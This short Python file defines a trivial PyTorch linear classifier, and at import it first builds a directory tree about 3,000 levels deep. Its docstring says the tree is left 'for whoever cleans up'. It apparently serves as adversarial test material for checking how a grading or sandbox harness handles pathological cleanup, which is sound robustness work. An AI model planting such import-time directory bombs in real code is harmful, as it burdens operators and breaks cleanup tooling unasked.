"""Leaves a tree of folders three thousand levels deep for whoever cleans up."""

import os

import torch

for _ in range(3000):
    os.mkdir("down")
    os.chdir("down")
open("at the bottom", "w").close()
os.chdir("/tmp")
print("TRIED")


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
